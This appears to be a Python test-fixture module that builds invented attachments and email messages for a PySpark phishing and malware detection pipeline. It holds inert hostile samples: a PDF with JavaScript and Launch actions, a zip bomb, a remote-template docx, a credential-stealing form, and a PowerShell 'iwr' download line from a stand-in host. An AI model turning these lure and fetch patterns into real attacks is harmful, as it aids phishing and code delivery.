"""Small invented payloads and raw messages for the operators on bytes."""

from __future__ import annotations

import datetime as dt
import io
import zipfile

from pyspark.sql import DataFrame, SparkSession


def archive(members: dict[str, bytes]) -> bytes:
    box = io.BytesIO()
    with zipfile.ZipFile(box, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return box.getvalue()


def payloads() -> list[tuple[str, str, bytes]]:
    word = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}
    return [
        ("plain.pdf", "application/pdf", b"%PDF-1.4\nhello\n%%EOF"),
        ("lure.pdf", "application/pdf", b"%PDF-1.4 /OpenAction /JavaScript /URI (http://pay.umbra.test/login) /Launch"),
        ("macro.docm", "application/vnd.ms-word.document.macroenabled.12", archive(word | {"word/vbaProject.bin": b"x"})),
        ("table.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", archive({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<x/>"})),
        ("outer.zip", "application/zip", archive({"inner.zip": archive({"note.txt": b"hello"})})),
        ("bill.pdf", "application/pdf", archive({"note.txt": b"http://kestrel.test/a"})),
        ("art.svg", "image/svg+xml", b"<svg><script>eval('1')</script></svg>"),
        ("noise.bin", "application/octet-stream", bytes([0, 1, 2, 250, 0, 99])),
        ("bomb.zip", "application/zip", archive({"zeros.txt": bytes(4 << 20)})),
        ("empty.txt", "text/plain", b""),
        ("links.zip", "application/zip", archive({"run.ps1": b"iwr http://a.test/x", "go.url": b"[InternetShortcut]\nURL=http://b.test/y", "pic.png": b"http://no.test"})),
        ("linked.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", archive(word | {"word/_rels/document.xml.rels": b'<Relationships><Relationship Id="1" TargetMode="External" Target="http://t.test/template.dotm"/><Relationship Id="2" Target="media/a.png"/></Relationships>'})),
    ]


def files(spark: SparkSession) -> DataFrame:
    return spark.createDataFrame([(n, t, bytearray(p)) for n, t, p in payloads()], "filename string, content_type string, payload binary")


def raw_mail(spark: SparkSession) -> DataFrame:
    plain = b"From: Ada <ada@velmora.example>\nTo: bo@solent.example\nReply-To: x@other.test\nSubject: Hello\nDate: Thu, 15 Jan 2026 10:30:00 +0100\nAuthentication-Results: mx; spf=fail; dkim=pass\n\nSee hxxp://pay.umbra.test/now and http://ok.rivet.test/x.\n"
    html = b'From: Bo <bo@tallow.test>\nSubject: Links\nMIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n<p>Go <a href="http://one.test/a">http://two.test</a> and http://three.test/a.<script>var t="</p>";</script></p>\n'
    parts = b'From: Cy <cy@kestrel.test>\nSubject: Files\nDate: Thu, 15 Jan 2026 10:30:00\nAuthentication-Results: mx; dmarc=pass\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\none\n--b\nContent-Type: application/octet-stream\nContent-Disposition: attachment; filename=a.docm\n\nabc\n--b\nContent-Type: image/png\n\nxy\n--b--\n'
    return spark.createDataFrame([("plain", bytearray(plain)), ("html", bytearray(html)), ("parts", bytearray(parts)), ("empty", bytearray(b"")), ("none", None)], "name string, raw binary")


MESSAGE = (
    "msg_id bigint, mailbox string, uid bigint, subject string, from_addr string, from_display string, reply_to string, return_path string, headers map<string,string>, spf_result string, dkim_result string, dmarc_result string, "
    "body_plain string, body_html string, visible_text string, urls array<struct<raw_url:string,normalized:string,domain:string,tld:string,is_punycode:boolean,display_text_mismatch:boolean,display_text:string,scheme:string>>, "
    "attachments array<struct<filename:string,content_type:string,size:bigint,has_macros:boolean>>, extracted_image_text string, extracted_qr_urls array<string>, recipients array<string>, cc array<string>, ingested_at timestamp"
)


def messages(spark: SparkSession) -> DataFrame:
    """A phishing mail with many signs, a plain one, and one with nothing but nulls; the mailbox is the name."""
    at = dt.datetime(2026, 1, 15, 12)
    link = ("http://login.evil.test/a", "http://login.evil.test/a", "login.evil.test", "test", False, True, "paypal.com", "http")
    text = "Please verify your identity at once, urgent wire of the invoice. Your boss asks you to click here and login."
    form = '<p>verify</p><form action="http://steal.test/x"><input type="password"></form>'
    return spark.createDataFrame([
        (1, "phish", 1, "Quarterly picnic", "bo@evil.test", "PayPal", "x@other.test", "y@third.test", {"Authentication-Results": "spf=fail"}, "fail", "none", "none", text, form, text, [link], [("bill.pdf.exe", "application/octet-stream", 10, False)], None, ["http://qr.test/q"], ["ada@x.test"], [], at),
        (2, "legit", 2, "Lunch on Friday", "cy@kind.test", "Cy", None, None, {}, "pass", "pass", "pass", "Lunch on Friday at noon?", "", "Lunch on Friday at noon?", [], [], None, None, ["ada@x.test"], [], at),
        (3, "bare", 3, None, None, None, None, None, None, None, None, None, None, None, None, None, None, None, None, None, None, at),
    ], MESSAGE)


class Box:
    """A mail client whose mail lies in memory."""

    MAIL = {"a@x.test": {3: b"ab", 7: b"hello"}, "b@x.test": {1: b"z"}}

    def __init__(self, options: dict[str, str] | None = None):
        pass

    def uids(self, mailbox: str, above: int) -> list[int]:
        return sorted(u for u in self.MAIL.get(mailbox, {}) if u > above)

    def fetch(self, mailbox: str, uid: int) -> bytes:
        return self.MAIL[mailbox][uid]


def failing(f, when):
    """``f`` that raises for the arguments on which ``when`` holds."""

    def run(*args):
        if when(*args):
            raise ValueError("made to fail")
        return f(*args)

    return run
